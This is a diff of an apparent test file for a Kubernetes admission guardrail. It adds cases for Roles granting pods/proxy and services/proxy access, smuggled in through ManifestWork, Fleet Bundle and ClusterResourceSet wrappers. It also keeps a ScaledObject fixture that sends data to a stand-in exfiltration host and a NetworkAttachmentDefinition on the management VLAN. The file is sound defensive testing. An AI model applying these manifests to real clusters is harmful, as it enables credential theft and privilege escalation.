@@ -43,11 +43,15 @@ const generate = (o: { apiVersion: string; kind: string; metadata: { name: strin
 const EXFIL = 'https://metrics.basketry-cdn.example/v1/queue';
 const exfil = exfilScaledObject('ran', 'du-worker', EXFIL) as { apiVersion: string; kind: string; metadata: { name: string; namespace: string }; spec: unknown };
 const mgmt = { apiVersion: 'k8s.cni.cncf.io/v1', kind: 'NetworkAttachmentDefinition', metadata: { name: 'mgmt', namespace: 'ran' }, spec: { config: JSON.stringify({ cniVersion: '0.3.1', name: 'mgmt', type: 'macvlan', master: 'bond0.3100', mode: 'bridge' }) } };
+// A pod's or a service's proxy reaches whatever it serves, as exec and port-forward do (rbac_pod_exec).
+const proxyRole = (kind: 'Role' | 'ClusterRole', resource: string, verbs: string[]) => ({ apiVersion: 'rbac.authorization.k8s.io/v1', kind, metadata: { name: 'debug-proxy', ...(kind === 'Role' && { namespace: 'ran' }) }, rules: [{ apiGroups: [''], resources: [resource], verbs }] });
 const KEDA = 'guardrail:keda_cluster_trigger_auth';
 const NAD = 'guardrail:network_attachment_reserved';
 
 const attacks: SweepAttack[] = [
   { what: "a ScaledObject handed the platform's ClusterTriggerAuthentication", rule: KEDA, via: [['a ManifestWork', work('edge-0021', exfil)], ['a Crossplane Object', object(exfil)], ["a Fleet Bundle's gzipped file", bundle(exfil)], ['a Kyverno generate rule', generate(exfil)], ["a ClusterResourceSet's Secret", resourceSet(exfil)]] },
+  { what: 'a Role granting GET on pods/proxy', rule: 'guardrail:rbac_pod_exec', via: [['a ManifestWork', work('edge-0021', proxyRole('Role', 'pods/proxy', ['get']))], ["a Fleet Bundle's gzipped file", bundle(proxyRole('Role', 'pods/proxy', ['get']))], ["a Secret's patch (stringData)", secretPatch(proxyRole('Role', 'pods/proxy', ['get']))]] },
+  { what: 'a ClusterRole granting services/proxy', rule: 'guardrail:rbac_pod_exec', via: [['a ManifestWork', work('edge-0021', proxyRole('ClusterRole', 'services/proxy', ['get', 'create']))], ["a ClusterResourceSet's Secret", resourceSet(proxyRole('ClusterRole', 'services/proxy', ['get', 'create']))]] },
   { what: 'a NetworkAttachmentDefinition on the management VLAN', rule: NAD, via: [['a ManifestWork', work('edge-0021', mgmt)], ['a Crossplane Object', object(mgmt)], ["a Fleet Bundle's gzipped file", bundle(mgmt)], ["a Secret's patch (stringData)", secretPatch(mgmt)]] },
 ];
 
@@ -60,6 +64,7 @@ describe('objects carried in a wrapper', () => {
     [
       ['a ManifestWork of a ConfigMap and a Deployment with a plain image', work('dev', cm, deploy)],
       ["a ManifestWork of a ScaledObject with its namespace's own TriggerAuthentication", work('dev', own)],
+      ["a ManifestWork of a Role reading pods' logs", work('dev', proxyRole('Role', 'pods/log', ['get']))],
     ],
     send,
   );
